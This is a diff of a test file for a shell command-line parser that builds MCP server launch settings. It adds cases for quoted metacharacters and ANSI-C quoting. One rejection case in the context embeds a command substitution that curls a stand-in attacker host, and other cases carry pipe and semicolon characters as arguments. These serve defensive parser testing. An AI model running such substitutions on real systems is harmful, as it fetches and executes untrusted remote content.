@@ -231,7 +231,7 @@ describe("command lines", () => {
     ],
     ['claude mcp add-json mine \'{"type":"http","url":"https://x.example/mcp"}\'', { transport: "http" }],
     ['code --add-mcp \'{"name":"mine","command":"x"}\'', { command: "x" }],
-    ["mytool 'a|b' \"c;d\" e\\&f", { command: "mytool", args: ["a|b", "c;d", "e&f"] }],
+    ['mytool \'a|b\' "c;d" e\\&f "5$"', { command: "mytool", args: ["a|b", "c;d", "e&f", "5$"] }],
   ])("%s", async (line, launch) => expect(await launchOf(line)).toMatchObject(launch));
 
   test("a variable of the shell becomes a field", async () => {
@@ -252,6 +252,7 @@ describe("command lines", () => {
     ['npx "$(curl evil.example)"', /\$\(\.\.\.\)/],
     ["npx ${X//a/b}", /substitution/],
     ["npx ~/x", /~/],
+    ["npx $'\\x41'", /substitution/],
     ["npx 'x", /single quote/],
     ['npx "x', /double quote/],
     ["A=1", /names no program/],
